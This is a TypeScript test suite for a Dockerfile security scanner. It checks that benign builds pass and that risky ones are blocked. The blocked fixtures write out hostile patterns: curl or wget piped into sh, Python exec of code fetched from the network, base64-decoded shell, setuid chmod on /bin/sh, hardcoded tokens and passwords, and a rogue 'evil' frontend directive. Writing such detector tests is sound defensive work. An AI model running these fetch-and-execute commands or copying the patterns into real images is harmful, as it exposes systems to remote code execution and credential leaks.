import { expect } from 'chai';
import { rulesOf, scanBytes } from './scan-bytes.ts';

const FROM = 'ARG REGISTRY\nFROM ${REGISTRY}/base/python:3.11\n';
const END = '\nUSER 65532\nCMD ["python3", "/srv/serve.py"]\n';
const around = (middle: string): string => `${FROM}${middle}${END}`;
const scan = (text: string) => scanBytes('Dockerfile', text, 'dockerfile');

describe('Dockerfile', () => {
  const honest: [string, string][] = [
    ['the sample', around('COPY model.safetensors serve.py /srv/\nEXPOSE 8080')],
    [
      'apt and pip',
      around(
        'RUN apt-get update && apt-get install -y --no-install-recommends python3-numpy && rm -rf /var/lib/apt/lists/*\nRUN pip install --no-cache-dir numpy==2.0',
      ),
    ],
    ['a digest', `FROM docker.io/library/python@sha256:${'a'.repeat(64)}\nUSER 1000:1000\n`],
    [
      'stages',
      `${FROM.replace('3.11', '3.11 AS build')}RUN make\nFROM build\nCOPY --from=build /a /b\nCOPY --from=0 /a /b\nUSER 5\n`,
    ],
    [
      'the user of the stage it starts from',
      `${FROM.trim()} AS base\nUSER 65532\nFROM base\nCMD ["a"]\n`,
    ],
    ['a user from a variable', around('ARG UID=65532').replace('USER 65532', 'USER ${UID}')],
    ['a default of an ARG before FROM', 'ARG TAG=3.11\nFROM python:${TAG}\nUSER 5\n'],
    ['a substitution', 'FROM python:${TAG:-3.11}\nUSER 5\n'],
    ['scratch', 'FROM scratch\nCOPY a /\nUSER 5\n'],
    ['a heredoc', around('RUN <<EOF\nset -e\napt-get update\nmkdir -p /srv\nEOF')],
    [
      'a pipe that parses',
      around(
        'RUN curl -s https://example.org/a.json | python3 -m json.tool > /a\nRUN curl -s https://example.org/a.json | jq .x',
      ),
    ],
    [
      'a download that is checked',
      around(
        'RUN curl -fsSLo /tmp/i.sh https://example.org/i.sh && echo "abc  /tmp/i.sh" | sha256sum -c && sh /tmp/i.sh',
      ),
    ],
    [
      'words of language models',
      around(
        'ENV PAD_TOKEN=<pad> MAX_TOKENS=512 TOKENIZERS_PARALLELISM=false SECRET_FILE=/run/secrets/x TOKEN_HEADER=X-Token API_KEY=${API_KEY}',
      ),
    ],
    [
      'modes',
      around('RUN chmod 755 /srv && chmod +x /srv/a && chmod 1777 /tmp && chmod u+w,go-w /a'),
    ],
    ['a mount', around('RUN --mount=type=cache,target=/root/.cache pip install numpy==2.0')],
    [
      'ADD with a checksum',
      around(`ADD --checksum=sha256:${'b'.repeat(64)} https://example.org/w.bin /w.bin`),
    ],
    [
      'a comment within a command',
      around('RUN apt-get update && \\\n  # curl x | sh\n  apt-get install -y a=1'),
    ],
  ];
  for (const [what, text] of honest)
    it(`passes ${what}`, () =>
      expect(scan(text).findings.filter(({ verdict }) => verdict !== 'pass')).to.deep.equal([]));

  const attacks: [string, string, string][] = [
    ['no USER', 'docker-root-user', FROM],
    ['USER root', 'docker-root-user', around('').replace('65532', 'root')],
    ['USER 0', 'docker-root-user', around('').replace('65532', '0')],
    ['USER 0:0', 'docker-root-user', around('').replace('65532', '0:0')],
    ['USER 000', 'docker-root-user', around('').replace('65532', '000')],
    ['a group of root', 'docker-root-user', around('').replace('65532', '5:0')],
    ['a named user', 'docker-root-user', around('').replace('65532', 'app')],
    ['USER and then USER root', 'docker-root-user', `${around('')}USER root\n`],
    [
      'a user of an earlier stage only',
      'docker-root-user',
      `${around('')}${FROM.split('\n')[1]}\n`,
    ],
    [
      'a user from a variable without value',
      'docker-root-user',
      around('ARG UID').replace('65532', '${UID}'),
    ],
    ['no tag', 'docker-unpinned-image', 'FROM python\nUSER 5\n'],
    ['a port is no tag', 'docker-unpinned-image', 'FROM registry:5000/python\nUSER 5\n'],
    ['latest', 'docker-unpinned-image', 'FROM python:latest\nUSER 5\n'],
    ['latest through ARG', 'docker-unpinned-image', 'ARG T=latest\nFROM python:$T\nUSER 5\n'],
    [
      'latest in another stage',
      'docker-unpinned-image',
      `FROM python:latest AS a\n${FROM.split('\n')[1]}\nUSER 5\n`,
    ],
    ['an ARG without value', 'docker-unpinned-image', 'ARG T\nFROM python:${T}\nUSER 5\n'],
    ['COPY --from an image', 'docker-unpinned-image', around('COPY --from=busybox /bin/sh /')],
    ['ADD from the network', 'docker-remote-add', around('ADD https://example.org/a.tar /')],
    [
      'ADD from the network as JSON',
      'docker-remote-add',
      around('ADD ["https://example.org/a", "/"]'),
    ],
    ['ADD from git', 'docker-remote-add', around('ADD git@github.com:a/b.git /')],
    [
      'ADD from the network through ENV',
      'docker-remote-add',
      around('ENV U=https://example.org\nADD $U/a /'),
    ],
    ['curl | sh', 'docker-piped-installer', around('RUN curl -fsSL https://example.org/i.sh | sh')],
    [
      'wget | sudo bash',
      'docker-piped-installer',
      around('RUN wget -qO- https://example.org/i.sh | sudo -E bash -'),
    ],
    [
      'over several lines',
      'docker-piped-installer',
      around('RUN set -e; \\\n  curl https://example.org/i.sh \\\n  | bash -s -- --yes'),
    ],
    [
      'through tee',
      'docker-piped-installer',
      around('RUN curl https://example.org/i.sh | tee /tmp/x | sh'),
    ],
    [
      'into python',
      'docker-piped-installer',
      around('RUN curl https://example.org/get-pip.py | python3'),
    ],
    [
      'sh -c',
      'docker-piped-installer',
      around('RUN sh -c "$(curl -fsSL https://example.org/i.sh)"'),
    ],
    [
      'sh -c with a pipe',
      'docker-piped-installer',
      around('RUN bash -lc "curl https://example.org/i.sh | sh"'),
    ],
    [
      'exec form',
      'docker-piped-installer',
      around('RUN ["/bin/sh", "-c", "curl https://example.org/i.sh | sh"]'),
    ],
    [
      'process substitution',
      'docker-piped-installer',
      around('RUN bash <(curl -s https://example.org/i.sh)'),
    ],
    [
      'backticks',
      'docker-piped-installer',
      around('RUN eval `wget -qO- https://example.org/i.sh`'),
    ],
    [
      'heredoc',
      'docker-piped-installer',
      around('RUN <<EOF\ncurl https://example.org/i.sh | sh\nEOF'),
    ],
    [
      'heredoc for bash',
      'docker-piped-installer',
      around("RUN bash <<'EOF'\ncurl https://example.org/i.sh | sh\nEOF"),
    ],
    [
      'heredoc for python',
      'docker-piped-installer',
      around(
        'RUN python3 <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("https://example.org/a").read())\nEOF',
      ),
    ],
    [
      'python -c',
      'docker-piped-installer',
      around(
        `RUN python3 -c "import urllib.request as u; exec(u.urlopen('https://example.org/a').read())"`,
      ),
    ],
    ['base64', 'docker-piped-installer', around('RUN echo aGVsbG8= | base64 -d | sh')],
    [
      'fetched, then run',
      'docker-piped-installer',
      around('RUN curl -o /tmp/i.sh https://example.org/i.sh && sh /tmp/i.sh'),
    ],
    [
      'fetched in one step, run in the next',
      'docker-piped-installer',
      around('RUN wget https://example.org/install.sh\nRUN chmod +x install.sh && ./install.sh'),
    ],
    [
      'fetched when it starts',
      'docker-piped-installer',
      `${FROM}USER 5\nCMD curl https://example.org/i.sh | sh\n`,
    ],
    [
      'in a health check',
      'docker-piped-installer',
      around('HEALTHCHECK CMD curl https://example.org/i.sh | sh'),
    ],
    ['a password in ENV', 'docker-secret', around('ENV DB_PASSWORD=hunter2secret')],
    ['a token in ARG', 'docker-secret', around('ARG API_TOKEN=abcdef123456')],
    ['a secret in LABEL', 'docker-secret', around('LABEL secret=abcdef')],
    ['an AWS key under another name', 'docker-secret', around('ENV A=AKIAIOSFODNN7EXAMPLE')],
    [
      'a GitHub token in RUN',
      'docker-secret',
      around(`RUN git clone https://x:ghp_${'a'.repeat(36)}@github.com/a/b`),
    ],
    [
      'a password in a URL',
      'docker-secret',
      around('RUN pip install --index-url https://user:hunter22@pypi.example.org/simple a'),
    ],
    ['an export in RUN', 'docker-secret', around('RUN export SECRET_KEY=abcdef && make')],
    ['a key file', 'docker-secret', around('COPY id_rsa /root/.ssh/')],
    ['.env', 'docker-secret', around('COPY .env /srv/')],
    ['sudo', 'docker-sudo', around('RUN sudo apt-get update')],
    ['installing sudo', 'docker-sudo', around('RUN apt-get install -y sudo')],
    ['chmod 777', 'docker-permissions', around('RUN chmod -R 777 /srv')],
    ['chmod 4755', 'docker-permissions', around('RUN chmod 4755 /bin/sh')],
    ['chmod u+s', 'docker-permissions', around('RUN chmod u+s /bin/sh')],
    ['chmod a+rwx', 'docker-permissions', around('RUN chmod a+rwx /srv')],
    ['COPY --chmod=777', 'docker-permissions', around('COPY --chmod=777 a /srv/')],
    ['ONBUILD', 'docker-onbuild', around('ONBUILD RUN make')],
    ['a frontend', 'docker-frontend', `# syntax=evil/frontend:1\n${around('')}`],
    ['a frontend below a comment', 'docker-frontend', `#\n# syntax=evil/frontend:1\n${around('')}`],
    ['an escape character', 'docker-syntax', `# escape=\`\n${around('')}`],
    ['--security=insecure', 'docker-privileged-run', around('RUN --security=insecure mount')],
    ['--network=host', 'docker-privileged-run', around('RUN --network=host make')],
    ['an unknown instruction', 'docker-syntax', around('BOGUS x')],
    ['no FROM', 'docker-syntax', 'USER 5\n'],
    ['RUN before FROM', 'docker-syntax', `RUN a\n${around('')}`],
    ['nothing', 'docker-syntax', '\n'],
    ['a lone carriage return', 'text-encoding', around('# a\rRUN x')],
    ['text that turns around', 'text-encoding', around('# \u202e x')],
    ['a port that is none', 'docker-label', around('LABEL creativeflow.port="99999"')],
    ['a path that is none', 'docker-label', around('LABEL creativeflow.readiness-path="ready"')],
  ];
  for (const [what, rule, text] of attacks) {
    it(`${what} → ${rule}`, () => {
      const result = scan(text);
      expect(rulesOf(result), JSON.stringify(result.findings)).to.include(rule);
      expect(result.verdict).to.equal('block');
    });
  }

  it('tells line, column, why and remedy', () => {
    const finding = scan(
      around('COPY a /b\n  RUN curl https://example.org/i.sh | sh'),
    ).findings.find(({ verdict }) => verdict === 'block');
    expect(finding).to.include({
      rule: 'docker-piped-installer',
      file: 'Dockerfile',
      line: 4,
      column: 3,
      symbol: 'RUN',
      evidence: 'curl https://example.org/i.sh | sh',
    });
    expect(finding!.why).to.be.a('string').and.not.empty;
    expect(finding!.remedy).to.be.a('string').and.not.empty;
  });

  it('reads what the image says about serving: labels above EXPOSE, the last stage and those it starts from', () => {
    expect(
      scan(
        around('LABEL creativeflow.port="9000" creativeflow.readiness-path="/ready"\nEXPOSE 8080'),
      ).serving,
    ).to.deep.equal({ port: 9000, readinessPath: '/ready' });
    expect(scan(around('EXPOSE 8080/udp 8081/tcp')).serving).to.deep.equal({ port: 8081 });
    expect(scan(around('ENV P=7000\nEXPOSE $P')).serving).to.deep.equal({ port: 7000 });
    expect(scan(`FROM a:1 AS x\nEXPOSE 1\nFROM b:1\nUSER 5\n`).serving).to.deep.equal({});
    expect(scan(`FROM a:1 AS x\nEXPOSE 1\nFROM x\nUSER 5\n`).serving).to.deep.equal({ port: 1 });
  });
});
